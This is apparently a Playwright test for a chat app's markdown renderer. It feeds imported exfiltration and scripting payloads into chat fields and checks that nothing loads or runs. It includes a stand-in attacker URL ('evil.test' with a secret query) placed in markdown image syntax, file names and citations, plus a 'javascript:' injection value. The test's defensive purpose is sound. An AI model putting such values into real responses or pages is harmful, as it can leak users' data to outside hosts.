import { exfiltrations, payloads } from '../mf-chat/src/markdown/safety/payloads.ts';
import { ask, expect, test, url, watchProblems } from './fixtures.ts';

const evil = 'https://evil.test/p?q=secret';
/** All shapes in one answer: each with labels of its own, so that its definitions are its own. */
const everything = [...exfiltrations, ...payloads]
  .map((shape, at) => shape.replaceAll('[r]', `[r${at}]`).replaceAll('[b]', `[b${at}]`).replaceAll('[^1]', `[^n${at}]`))
  .concat('This is the end of all shapes.')
  .join('\n\n');

test('a hundred shapes of exfiltration and three hundred of scripting are shown: no foreign host is asked, no script runs', async ({
  page,
  login,
  navigate,
}) => {
  const problems = watchProblems(page);
  const foreign: string[] = [];
  const { origin } = new URL(url());
  page.on('request', (request) => {
    const asked = new URL(request.url());
    if (asked.origin !== origin && !['data:', 'blob:'].includes(asked.protocol)) foreign.push(request.url());
  });
  await login('premium@atrium.test');
  await navigate('/');
  await ask(page, `Is it safe? ${Date.now()}`);
  await expect(page).toHaveURL(/\?chat=[0-9a-f]{24}/);
  // What a model may have written, wherever an answer holds text or an address.
  await page.route(
    (address) => address.pathname === '/api/chat',
    async (route) => {
      const response = await route.fetch();
      const { messages, ...rest } = await response.json();
      await route.fulfill({
        response,
        json: {
          ...rest,
          messages: messages.map((message: object) => ({
            ...message,
            content: everything,
            thoughts: [everything.slice(0, 2000), `![a](${evil})`],
            citations: JSON.stringify([evil, 'javascript:globalThis.ran=1']),
            assistantFileUrl: evil,
            assistantFileType: 'image',
            userFiles: [{ _id: 'f', name: `![a](${evil}).png`, type: 'image/png', url: evil }],
          })),
        },
      });
    },
  );
  await page.reload();
  await expect(page.getByText('This is the end of all shapes.')).toBeAttached();
  const active = page
    .locator('[data-markdown]')
    .locator('script, iframe, object, embed, img, style, link, video, audio');
  await expect(active).toHaveCount(0);
  expect(await page.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined();
  expect(foreign).toEqual([]);
  expect(problems).toEqual([]);
});
